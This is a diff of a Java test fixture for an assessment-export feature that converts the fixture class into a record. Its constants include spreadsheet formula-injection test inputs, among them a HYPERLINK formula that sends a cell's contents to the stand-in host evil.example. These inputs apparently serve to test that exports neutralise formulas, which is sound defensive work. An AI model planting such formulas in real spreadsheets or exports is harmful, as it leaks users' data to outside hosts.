@@ -39,7 +39,8 @@ import java.util.Optional;
  *   <li>Team "Fraud": no assessments.</li>
  * </ul>
  */
-public final class ExportFixture {
+public record ExportFixture(Path file, Team team, Team emptyTeam, Assessment q1, Assessment q2, ActionItem doneAction,
+                            ActionItem openAction) {
 
     public static final String NOTE_HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
     public static final String NOTE_SUM = "@SUM(A1:A9)";
@@ -48,25 +49,6 @@ public final class ExportFixture {
     public static final String NOTE_MULTILINE = "\rline one\r\nline \"two\" | *bold* <b>x</b>";
     public static final String ACTION_DONE = "Add tools | *now*";
     public static final String ACTION_OPEN = "+notify the team";
-
-    public final Path file;
-    public final Team team;
-    public final Team emptyTeam;
-    public final Assessment q1;
-    public final Assessment q2;
-    public final ActionItem doneAction;
-    public final ActionItem openAction;
-
-    private ExportFixture(Path file, Team team, Team emptyTeam, Assessment q1, Assessment q2, ActionItem doneAction,
-                          ActionItem openAction) {
-        this.file = file;
-        this.team = team;
-        this.emptyTeam = emptyTeam;
-        this.q1 = q1;
-        this.q2 = q2;
-        this.doneAction = doneAction;
-        this.openAction = openAction;
-    }
 
     /** The storage tests' tiny rubric (p1, p2 on 0 / 0.5 / 1; litmus l1 yes / no; bands Good, Bad). */
     public static Rubric rubric() {
@@ -107,6 +89,4 @@ public final class ExportFixture {
     public AssessmentStore open() {
         return SqliteAssessmentStore.open(file);
     }
-
-    /** A clock the fixture moves by hand, so timestamps are known. */
 }
